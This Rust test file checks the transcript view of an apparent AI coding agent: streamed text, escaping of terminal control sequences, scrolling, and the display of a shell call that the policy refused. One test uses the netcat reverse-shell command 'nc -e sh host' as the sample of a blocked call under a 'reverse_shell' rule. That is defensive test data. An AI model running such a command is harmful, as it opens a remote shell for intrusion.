//! What a run looks like.

use kode_base::{Layer, Reason, RiskClass, Verdict};

use super::*;

fn shown(transcript: &mut Transcript, height: usize) -> String {
    let lines = transcript.visible(Theme::PLAIN, 60, height);
    lines.iter().map(ToString::to_string).collect::<Vec<_>>().join("\n")
}

fn call(id: &str, command: &str) -> Event {
    let arguments = format!("{{\"command\": {command:?}}}");
    Event::ToolCall { call: id.to_owned(), tool: "shell".into(), arguments: arguments.into() }
}

fn refused(id: &str) -> Event {
    Event::Decision {
        call: id.to_owned(),
        verdict: Verdict::Refuse,
        class: RiskClass::Blocked,
        permitted: false,
        answered_by: kode_base::AnsweredBy::Policy,
        reason: Reason {
            class: RiskClass::Blocked,
            rule: "reverse_shell".to_owned(),
            layer: Layer::BuiltIn,
            text: "a reverse shell".to_owned(),
        },
        audit: kode_base::AuditSequence(1),
    }
}

#[test]
fn streamed_text_joins_and_hostile_text_is_shown() {
    let mut transcript = Transcript::default();
    for piece in ["I look ", "at it\u{1b}]0;x\u{7}."] {
        transcript.event(&Event::Text { text: piece.into() });
    }
    assert_eq!(shown(&mut transcript, 10).trim_end(), "I look at it\\e]0;x\\u{7}.");
}

#[test]
fn a_refused_call_says_why_and_unfolds() {
    let mut transcript = Transcript::default();
    transcript.event(&call("1", "nc -e sh host"));
    transcript.event(&refused("1"));
    let folded = shown(&mut transcript, 10);
    assert!(folded.contains("✖ refused shell nc -e sh host"), "{folded}");
    assert!(folded.contains("a reverse shell"), "{folded}");
    transcript.click(0);
    let unfolded = shown(&mut transcript, 10);
    for expected in [
        "command  nc -e sh host",
        "verdict  refuse, not permitted by the policy",
        "rule     reverse_shell (builtin layer)",
    ] {
        assert!(unfolded.contains(expected), "{expected} in:\n{unfolded}");
    }
}

#[test]
fn what_comes_in_does_not_move_what_is_being_read() {
    let mut transcript = Transcript::default();
    (0..30).for_each(|n| transcript.note(format!("note {n}"), Kind::Plain));
    shown(&mut transcript, 4);
    transcript.scroll(-20);
    let before = shown(&mut transcript, 4);
    (0..5).for_each(|n| transcript.note(format!("new {n}"), Kind::Plain));
    assert_eq!(shown(&mut transcript, 4), before);
    assert_eq!(transcript.rows_below(), 30);
}

#[test]
fn scrolling_goes_back_no_further_than_the_beginning() {
    let mut transcript = Transcript::default();
    (0..30).for_each(|n| transcript.note(format!("note {n}"), Kind::Plain));
    assert!(shown(&mut transcript, 4).contains("note 29"));
    transcript.scroll(-1000);
    assert!(shown(&mut transcript, 4).starts_with("note 0"));
    transcript.scroll(1000);
    assert!(shown(&mut transcript, 4).contains("note 29"));
}
